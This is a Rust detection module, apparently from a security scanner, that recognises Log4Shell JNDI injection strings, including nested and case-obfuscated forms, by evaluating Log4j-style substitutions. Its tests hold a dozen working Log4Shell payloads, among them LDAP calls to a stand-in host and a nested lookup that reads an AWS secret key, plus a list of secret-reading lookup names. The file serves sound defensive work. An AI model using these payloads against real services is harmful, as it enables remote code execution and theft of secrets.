//! JNDI lookups (Log4Shell, CVE-2021-44228): `${jndi:ldap://host/a}` in any value that
//! a Java service may log, and the nested lookups that spell it without the word
//! (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`, `${${env:X:-j}ndi:`).
//!
//! The value's `${...}` expressions are evaluated as Log4j 2's `StrSubstitutor` does for
//! the lookups that only reshape text: a default (`${anything:-x}` is `x` when the lookup is
//! unset, which the attacker arranges), `lower:` and `upper:`, and `date:'x'` (a quoted
//! literal of `SimpleDateFormat`). What is left is compared against the lookup names that
//! reach out (`jndi`) or read secrets (`env`, `sys`, ...). A secret lookup alone is only a
//! finding when it was spelled through nesting: `${env:HOME}` in a value is rare but not an
//! attack, `${${lower:e}nv:AWS_SECRET_ACCESS_KEY}` is.

use super::{Match, shape::starts_with_ignore_case};

/// Nesting deeper than this is evaluated as text: Log4j itself stops recursing at some
/// depth, and real payloads nest two or three levels.
const MAX_DEPTH: usize = 8;

/// Longest evaluated text kept, in bytes (the value may be longer; the lookup name that
/// matters is at its start).
const MAX_OUT: usize = 256;

/// Lookups of Log4j 2 (its manual's "Lookups" chapter) that read the environment or
/// configuration: spelled through nesting, they exfiltrate.
const SECRET_LOOKUPS: &[&str] = &[
    "env:", "sys:", "java:", "ctx:", "main:", "bundle:", "k8s:", "docker:", "spring:",
    "web:", "log4j:", "base64:", "marker:", "map:", "sd:", "event:",
];

/// Checks one decoded value.
pub fn check(value: &str) -> Option<Match> {
    let b = value.as_bytes();
    let mut from = 0;
    while let Some(p) = b[from..].windows(2).position(|w| w == b"${") {
        let at = from + p;
        let mut out = Vec::new();
        let mut nested = false;
        let end = eval(b, at + 2, 0, &mut out, &mut nested);
        if let Some(rule) = judge(&out, nested) {
            return Some(Match::new(rule, value, at, end));
        }
        from = at + 2;
    }
    None
}

fn judge(out: &[u8], nested: bool) -> Option<&'static str> {
    let lookup = out.trim_ascii_start();
    if starts_with_ignore_case(lookup, b"jndi:") {
        return Some(if nested { "jndi:obfuscated" } else { "jndi:lookup" });
    }
    if nested && SECRET_LOOKUPS.iter().any(|l| starts_with_ignore_case(lookup, l.as_bytes())) {
        return Some("jndi:obfuscated");
    }
    None
}


/// Evaluates the lookup whose body starts at `i` (after `${`) into `out`; returns the index
/// after its `}` (or the end of the input when it is unclosed). `nested` is set when a
/// lookup inside it was evaluated.
fn eval(b: &[u8], mut i: usize, depth: usize, out: &mut Vec<u8>, nested: &mut bool) -> usize {
    let mut body = Vec::new();
    while i < b.len() {
        match b[i] {
            b'}' => {
                i += 1;
                break;
            }
            b'$' if b.get(i + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                *nested = true;
                let mut inner = Vec::new();
                i = eval(b, i + 2, depth + 1, &mut inner, nested);
                body.extend_from_slice(&inner);
            }
            c => {
                body.push(c);
                i += 1;
            }
        }
        if body.len() > MAX_OUT {
            break;
        }
    }
    out.extend_from_slice(resolve(&body));
    i
}

/// What a lookup body stands for: its default after `:-`, the argument of `lower:`,
/// `upper:` or `date:'x'`, or else the body itself: a lookup that does not reshape text
/// (`${env:USER}`) is unknown to us, and its name is kept so that a secret lookup shows.
fn resolve(body: &[u8]) -> &[u8] {
    if let Some(p) = body.windows(2).position(|w| w == b":-") {
        return &body[p + 2..];
    }
    for prefix in [&b"lower:"[..], b"upper:"] {
        if starts_with_ignore_case(body, prefix) {
            return &body[prefix.len()..];
        }
    }
    if starts_with_ignore_case(body, b"date:") {
        let arg = &body[5..];
        return arg
            .strip_prefix(b"'")
            .map(|a| a.strip_suffix(b"'").unwrap_or(a))
            .unwrap_or(arg);
    }
    body
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_and_their_obfuscations_match() {
        for a in [
            "${jndi:ldap://evil.example/a}",
            "${jndi:rmi://10.0.0.1:1099/x}",
            "X-Api-Version: ${jndi:dns://x.example}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${upper:J}${upper:N}DI:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
            "${${lower:e}nv:AWS_SECRET_ACCESS_KEY}",
            "${jNdI:ldap://x}",
            "${ jndi:ldap://x}",
        ] {
            assert!(check(a).is_some(), "{a}");
        }
    }

    #[test]
    fn templates_and_shell_variables_do_not() {
        for b in [
            "${HOME}/bin",
            "echo ${PATH}",
            "Total: ${price}",
            "${env:JAVA_HOME}",
            "`${a}-${b}`",
            "${",
            "${${${${${${${${${${${${",
            "costs $5 {approx}",
        ] {
            assert_eq!(check(b), None, "{b}");
        }
    }
}
